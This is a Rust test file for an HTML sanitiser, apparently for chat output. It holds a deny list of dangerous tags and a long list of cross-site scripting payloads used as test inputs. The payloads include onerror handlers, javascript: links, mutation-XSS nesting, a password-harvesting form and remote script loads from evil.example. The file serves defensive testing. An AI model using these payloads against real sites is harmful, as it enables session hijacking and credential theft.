use proptest::prelude::*;

use super::*;

/// What must not be in any output, in lower case. Tags are sought with their bracket: in texts it is
/// escaped.
const FORBIDDEN: &[&str] = &[
    "<script",
    "<style",
    "<iframe",
    "<form",
    "<input",
    "<button",
    "<object",
    "<embed",
    "<svg",
    "<math",
    "<base",
    "<meta",
    "<link",
    "<template",
    "<textarea",
    "<select",
    "<video",
    "<audio",
    "<noscript",
    "<title",
    "<xmp",
    "<!--",
];

/// Lines that run something in a reader that isn't careful.
const HOSTILE: &[&str] = &[
    "<script>steal()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<img src=x onerror=steal()>",
    "<img src=\"javascript:steal()\">",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src='https://example.org/a.png' onload='steal()' style='width:1px'>",
    "<svg onload=steal()>",
    "<svg><animate attributeName=href values=javascript:steal() /><a><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=steal()&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=steal()></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
    "<iframe srcdoc=\"<script>steal()</script>\"></iframe>",
    "<iframe src=javascript:steal()>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<button formaction=javascript:steal()>x</button>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style=\"position:fixed;inset:0\">over all</p>",
    "<a href=javascript:steal()>x</a>",
    "<a href=\" JaVa\tScRiPt:steal()\">x</a>",
    "<a href=\"java&#10;script:steal()\">x</a>",
    "<a href=\"javascript&colon;steal()\">x</a>",
    "<a href=\"&#1;javascript:steal()\">x</a>",
    "<a href=data:text/html,<script>steal()</script>>x</a>",
    "<a href=vbscript:steal()>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=https:evil.example target=_top rel=opener>x</a>",
    "<a href='https://example.org' onclick=steal() id=x name=y class=z>x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=steal()>\">",
    "<template><script>steal()</script></template>",
    "<textarea><script>steal()</script></textarea>",
    "<title></title><img src=x onerror=steal()>",
    "<xmp><img src=x onerror=steal()></xmp>",
    "<!--<img src=x onerror=steal()>-->",
    "<!--><img src=x onerror=steal()>-->",
    "<![CDATA[<img src=x onerror=steal()>]]>",
    "<?php steal() ?>",
    "<base href=https://evil.example><a href=/x>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=javascript:steal()></object><embed src=javascript:steal()>",
    "<video src=x onerror=steal()></video><audio src=x onerror=steal()></audio>",
    "<details open ontoggle=steal()><summary>x</summary></details>",
    "<body onload=steal()><div onmouseover=steal()>x</div>",
    "<table background=javascript:steal()><td background=javascript:steal()>x",
    "<x contenteditable onblur=steal()>lose me</x>",
    "{{constructor.constructor('steal()')()}}",
    "<img src=`x`onerror=steal()>",
    "<img/src=x/onerror=steal()>",
    "<a title=\"'><script>steal()</script>\">x</a>",
    "<p><b><i></p></i></b><table><b><tr><a href=https://a.example><td><a href=https://b.example>",
    "<pre>\n\n\nlines</pre>",
    "<select><option><script>steal()</script></option></select>",
    "<plaintext><img src=x onerror=steal()>",
    "<frameset><frame src=javascript:steal()></frameset>",
    "<div\0onclick=steal()>x</div>",
    "<\0script>steal()</script>",
    "a\r\nb\rc\0d",
];

/// Asserts that nothing in it runs, and that it stays as it is.
fn assert_harmless(html: &str) {
    let safe = sanitise(html);
    let lower = safe.to_lowercase();
    for forbidden in FORBIDDEN {
        assert!(!lower.contains(forbidden), "{forbidden} of {html:?} is left: {safe:?}");
    }
    for tag in tags(&lower) {
        for attribute in attributes(tag) {
            let (name, value) = attribute;
            let is_known = matches!(
                name,
                "href"
                    | "src"
                    | "alt"
                    | "title"
                    | "width"
                    | "height"
                    | "rel"
                    | "target"
                    | "dir"
                    | "lang"
                    | "colspan"
                    | "rowspan"
                    | "scope"
                    | "start"
                    | "reversed"
                    | "value"
                    | "referrerpolicy"
            );
            assert!(is_known, "attribute {name} of {html:?} is left: {safe:?}");
            if matches!(name, "href" | "src") {
                let schemes = ["http://", "https://", "mailto:", "tel:"];
                assert!(schemes.iter().any(|it| value.starts_with(it)), "{value:?} of {html:?}");
            }
        }
    }
    assert_eq!(sanitise(&safe), safe, "{html:?} changes when it is sanitised again");
}

/// Insides of the tags of well-formed HTML.
fn tags(html: &str) -> impl Iterator<Item = &str> {
    html.split('<').skip(1).map(|tag| &tag[..end_of_tag(tag)])
}

/// Where a tag ends: `>` may stand in a value.
fn end_of_tag(tag: &str) -> usize {
    let mut is_quoted = false;
    for (at, character) in tag.char_indices() {
        match character {
            '"' => is_quoted = !is_quoted,
            '>' if !is_quoted => return at,
            _ => {}
        }
    }
    tag.len()
}

fn attributes(tag: &str) -> Vec<(&str, &str)> {
    let mut found = Vec::new();
    let mut rest = tag;
    while let Some((before, after)) = rest.split_once("=\"") {
        let name = before.rsplit(' ').next().unwrap_or_default();
        let Some((value, left)) = after.split_once('"') else { break };
        found.push((name, value));
        rest = left;
    }
    found
}

#[test]
fn what_a_chat_shows_stays() {
    for (html, expected) in [
        ("Hello", "Hello"),
        ("<b>Bold</b> and <i>italic</i>", "<b>Bold</b> and <i>italic</i>"),
        ("<P>One<p>Two", "<p>One</p><p>Two</p>"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        (
            "<a href='https://example.org/?a=1&b=2'>Shop</a>",
            "<a href=\"https://example.org/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer\">Shop</a>",
        ),
        (
            "<img src=https://example.org/a.png alt=Map width=10 class=x>",
            "<img src=\"https://example.org/a.png\" alt=\"Map\" width=\"10\" referrerpolicy=\"no-referrer\">",
        ),
        (
            "<table><tr><td colspan=2>x</table>",
            "<table><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table>",
        ),
        ("1 < 2 & 3", "1 &lt; 2 &amp; 3"),
        ("a&nbsp;b &copy;", "a&nbsp;b ©"),
        ("<font color=red>red</font>", "red"),
        ("<form>Name: <input><b>x</b></form>", "Name: <b>x</b>"),
        ("<script>steal()</script>left", "left"),
        ("<iframe src=https://example.org>x</iframe>left", "left"),
        ("", ""),
    ] {
        assert_eq!(sanitise(html), expected, "{html:?}");
    }
}

#[test]
fn nothing_hostile_survives() {
    for html in HOSTILE {
        assert_harmless(html);
    }
}

#[test]
fn pictures_are_of_the_web_alone() {
    assert!(!sanitise("<img src=mailto:a@example.org>").contains("src="));
    assert!(
        sanitise("<a href=mailto:a@example.org>x</a>").contains("href=\"mailto:a@example.org\"")
    );
    assert!(sanitise("<a href=tel:123>x</a>").contains("href=\"tel:123\""));
    assert!(!sanitise("<a href=sms:123>x</a>").contains("href"));
}

#[test]
fn what_could_grow_without_end_is_text() {
    let marks: String = (0..1_000).map(|it| format!("<b title={it}>")).collect();
    let many = format!("{marks}{}", "<p>x".repeat(1_000));
    let long = format!("<p>{}", "x".repeat(MAX_HTML_BYTES));
    let deep = "<div>".repeat(MAX_TAGS + 1);
    for html in [many, long, deep] {
        let safe = sanitise(&html);
        assert!(safe.starts_with("&lt;"), "{}", &safe[..40]);
        assert!(safe.len() <= html.len() * 4);
        assert_eq!(safe, as_text(&html));
    }
}

#[test]
fn what_is_deep_is_read() {
    let html = format!("{}x{}", "<div>".repeat(1_900), "</div>".repeat(1_900));
    assert_eq!(sanitise(&html), html);
}

proptest! {
    #[test]
    fn any_mixture_of_hostile_lines_is_harmless(
        lines in proptest::collection::vec((0..HOSTILE.len(), 0usize..80), 1..6),
    ) {
        let cut = |(line, end): (usize, usize)| HOSTILE[line].chars().take(80 - end).collect::<String>();
        let html: String = lines.into_iter().map(cut).collect();
        assert_harmless(&html);
    }

    #[test]
    fn any_nesting_is_harmless(
        parts in proptest::collection::vec(
            prop_oneof![
                prop::sample::select(vec![
                    "a", "b", "i", "p", "div", "table", "tr", "td", "ul", "li", "pre", "form", "svg",
                    "math", "mtext", "style", "title", "h1", "select", "option", "template", "details",
                    "annotation-xml", "foreignObject", "desc", "noscript", "code", "s", "caption",
                ]).prop_flat_map(|tag| prop_oneof![
                    Just(format!("<{tag}>")),
                    Just(format!("<{tag} onclick=steal() title=\"<p>\">")),
                    Just(format!("</{tag}>")),
                ]),
                Just("text\n".to_owned()),
                Just("<!--".to_owned()),
                Just("-->".to_owned()),
                Just("<img src=x onerror=steal()>".to_owned()),
            ],
            0..24,
        ),
    ) {
        assert_harmless(&parts.concat());
    }

    #[test]
    fn any_text_is_harmless(text in "\\PC{0,60}|[<>a-z/=\"' &;!\\-\0\r\n]{0,60}") {
        assert_harmless(&text);
        assert_eq!(sanitise(&as_text(&text)), as_text(&text));
    }
}
